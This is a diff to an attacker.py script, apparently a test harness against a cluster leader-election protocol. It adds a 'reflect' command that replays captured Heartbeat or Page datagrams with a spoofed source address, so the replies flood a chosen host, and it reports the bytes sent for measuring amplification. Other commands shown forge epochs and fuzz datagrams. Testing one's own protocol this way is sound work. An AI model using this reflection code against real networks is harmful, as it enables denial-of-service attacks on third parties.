@@ -26,6 +26,10 @@
 #   attacker.py climb FILE INTERFACE NODE EPOCH STEPS
 #                                          Leaders of the node with that id, each of an epoch so far above the last one,
 #                                          EPOCH being the first, as is just believed
+#   attacker.py reflect FILE INTERFACE TYPE TO COUNT [stranger]
+#                                          the last Page or Heartbeat to a single node, so often, in the name of the host
+#                                          TO, where the answers go; or the longest one, of a node that is not there.
+#                                          Prints how many bytes that was, from the IP header on
 #   attacker.py flip FILE INTERFACE        all of it, each with one bit changed somewhere in its datagram
 #   attacker.py flip-each FILE INTERFACE   a datagram of each type, with each bit changed in turn
 #   attacker.py shorten FILE INTERFACE     a datagram of each type, at each length
@@ -42,7 +46,7 @@ import time
 PORTS = range(29417, 29434)
 ETHERNET, IPV4, UDP, MAC = 14, 20, 8, 16
 HEADER = 47  # of a datagram, without the name of the cluster and what its flags add
-ELECTION, LEADER, HEARTBEAT, ACK, SUSPECT, RESIGN, FAREWELL = 2, 4, 5, 6, 8, 10, 11
+ELECTION, LEADER, HEARTBEAT, ACK, SUSPECT, RESIGN, FAREWELL, PAGE = 2, 4, 5, 6, 8, 10, 11, 15
 OWN_TOKEN = 66  # where it is in the body of a Heartbeat
 EPOCH_MAX, EPOCH_STEP_MAX = 2**53 - 1, 2**20
 EVERYBODY = "224.0.0.254"
@@ -90,7 +94,7 @@ def read(path):
     return frames
 
 
-def send(frames, interface, rate=20000, astray=False):
+def send(frames, interface, rate=20000, astray=False, told=None):
     """From the address of this card, or the switch would no longer find the others."""
     out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     out.bind((interface, 0))
@@ -101,7 +105,7 @@ def send(frames, interface, rate=20000, astray=False):
             time.sleep(ahead)
         out.send(frame if astray else frame[:6] + own + frame[12:])
         count += 1
-    print(count)
+    print(count if told is None else told)
 
 
 def checksum(head):
@@ -205,6 +209,21 @@ def pose(path, interface, node, count, rate):
     send((multicast(frame, datagram[:47] + random.randbytes(80)) for _ in range(int(count))), interface, int(rate))
 
 
+def strange(datagram):
+    """By a node that nobody knows."""
+    at = 11 + datagram[10]
+    return datagram[:at] + random.randbytes(16) + struct.pack(">I", 1) + random.randbytes(8) + datagram[at + 28 :]
+
+
+def reflect(path, interface, kind, to, count, whose="member"):
+    kinds = {"page": PAGE, "heartbeat": HEARTBEAT}
+    asked = [frame for frame in read(path) if datagram_of(frame)[6] == kinds[kind] and datagram_of(frame)[7] & 1]
+    frame = max(reversed(asked), key=len) if whose == "stranger" else asked[-1]
+    datagram = strange(datagram_of(frame)) if whose == "stranger" else datagram_of(frame)
+    frame = addressed(frame[:26] + socket.inet_aton(to) + frame[30:], datagram)
+    send([frame] * int(count), interface, GENTLY, told=(len(frame) - ETHERNET) * int(count))
+
+
 def ceiling(path, interface, epoch):
     epochs = [int(epoch) + EPOCH_STEP_MAX + 1, EPOCH_MAX, EPOCH_MAX + 1, 2**64 - 1, int(epoch) + EPOCH_STEP_MAX]
     frames, seq = [], random.getrandbits(62)
@@ -262,6 +281,7 @@ VERBS = {
     "forge": forge,
     "storm": storm,
     "pose": pose,
+    "reflect": reflect,
     "ceiling": ceiling,
     "climb": climb,
     "flip": flip,
